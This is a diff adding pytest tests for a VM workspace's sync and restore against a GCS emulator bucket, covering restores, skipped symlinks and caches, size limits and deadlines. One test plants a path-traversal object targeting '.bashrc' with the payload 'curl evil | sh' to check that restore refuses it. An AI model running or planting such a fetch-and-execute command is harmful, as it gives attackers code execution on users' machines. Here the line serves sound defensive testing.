@@ -1,0 +1,132 @@
+"""The workspace in the bucket, against the GCS emulator: what a recreated VM gets back, what a
+sync sends, and what it never touches."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from startup.vm import workspace
+from startup.vm.workspace import restore, sync
+from workload import storage
+
+
+def url(bucket: str) -> str:
+    return f"gs://{bucket}/workspace"
+
+
+def files(root: Path) -> dict[str, str]:
+    return {
+        p.relative_to(root).as_posix(): p.read_text()
+        for p in sorted(root.rglob("*"))
+        if p.is_file() and not p.is_symlink()
+    }
+
+
+def objects(bucket: str) -> dict[str, str]:
+    return {
+        info.name: storage.read_bytes(f"{url(bucket)}/{info.name}").decode()  # type: ignore[union-attr]
+        for info in storage.list_objects(url(bucket))
+    }
+
+
+def test_a_new_vm_gets_the_workspace_back(gcs_bucket: str, tmp_path: Path) -> None:
+    old = tmp_path / "old"
+    (old / "notes").mkdir(parents=True)
+    (old / "walkthrough.ipynb").write_text('{"cells": ["mine"]}')
+    (old / "notes/todo.md").write_text("- train on L4")
+    sync(old, url(gcs_bucket))
+    new = tmp_path / "new"  # another disk, another zone
+
+    report = restore(new, url(gcs_bucket))
+
+    assert report.restored == 2
+    assert files(new) == files(old)
+
+
+def test_restore_never_deletes_and_replaces_only_what_differs(
+    gcs_bucket: str, tmp_path: Path
+) -> None:
+    root = tmp_path / "work"
+    root.mkdir()
+    (root / "a.txt").write_text("in the bucket")
+    sync(root, url(gcs_bucket))
+    (root / "a.txt").write_text("changed locally, not synced yet")
+    (root / "b.txt").write_text("new locally")
+
+    restore(root, url(gcs_bucket))
+
+    assert files(root) == {"a.txt": "in the bucket", "b.txt": "new locally"}
+
+
+def test_sync_sends_new_and_changed_files_and_deletes_what_was_deleted(
+    gcs_bucket: str, tmp_path: Path
+) -> None:
+    root = tmp_path / "work"
+    root.mkdir()
+    (root / "keep.txt").write_text("same")
+    (root / "change.txt").write_text("v1")
+    (root / "remove.txt").write_text("bye")
+    sync(root, url(gcs_bucket))
+    (root / "change.txt").write_text("v2")
+    (root / "remove.txt").unlink()
+    (root / "new.txt").write_text("hi")
+
+    report = sync(root, url(gcs_bucket))
+
+    assert sorted(report.uploaded) == ["change.txt", "new.txt"]
+    assert report.deleted == ["remove.txt"]
+    assert objects(gcs_bucket) == {"change.txt": "v2", "keep.txt": "same", "new.txt": "hi"}
+
+
+def test_sync_skips_links_checkpoints_caches_and_huge_files(
+    gcs_bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(workspace, "MAX_FILE_BYTES", 10)
+    secret = tmp_path / "outside.txt"
+    secret.write_text("not the workspace's")
+    root = tmp_path / "work"
+    (root / ".ipynb_checkpoints").mkdir(parents=True)
+    (root / ".ipynb_checkpoints/n-checkpoint.ipynb").write_text("{}")
+    (root / "pkg/__pycache__").mkdir(parents=True)
+    (root / "pkg/__pycache__/m.pyc").write_text("x")
+    (root / "pkg/m.py").write_text("x = 1")
+    (root / "link.txt").symlink_to(secret)
+    (root / "linked-dir").symlink_to(tmp_path, target_is_directory=True)
+    (root / "big.bin").write_text("0123456789abcdef")
+
+    report = sync(root, url(gcs_bucket))
+
+    assert objects(gcs_bucket) == {"pkg/m.py": "x = 1"}
+    assert report.too_big == ["big.bin"]
+    assert "over 1 GiB, not kept: big.bin" in report.summary()
+
+
+def test_sync_stops_at_its_deadline(gcs_bucket: str, tmp_path: Path) -> None:
+    root = tmp_path / "work"
+    root.mkdir()
+    for index in range(5):
+        (root / f"{index}.txt").write_text(str(index))
+
+    report = sync(root, url(gcs_bucket), deadline=time.monotonic() - 1)
+
+    assert report.unfinished and report.uploaded == []
+
+
+def test_restore_refuses_object_names_that_climb_out(
+    gcs_bucket_like_real_gcs: str, tmp_path: Path
+) -> None:
+    """Anyone who can write the bucket (any notebook user) must not write outside ~/work."""
+    bucket = gcs_bucket_like_real_gcs
+    storage.write_bytes(f"gs://{bucket}/workspace/../../.bashrc", b"curl evil | sh")
+    storage.write_bytes(f"gs://{bucket}/workspace/fine.txt", b"ok")
+    root = tmp_path / "home/jupyter/work"
+    root.parent.mkdir(parents=True)
+
+    report = restore(root, url(bucket))
+
+    assert report.restored == 1
+    assert files(root) == {"fine.txt": "ok"}
+    assert not (tmp_path / "home/.bashrc").exists() and not (tmp_path / ".bashrc").exists()
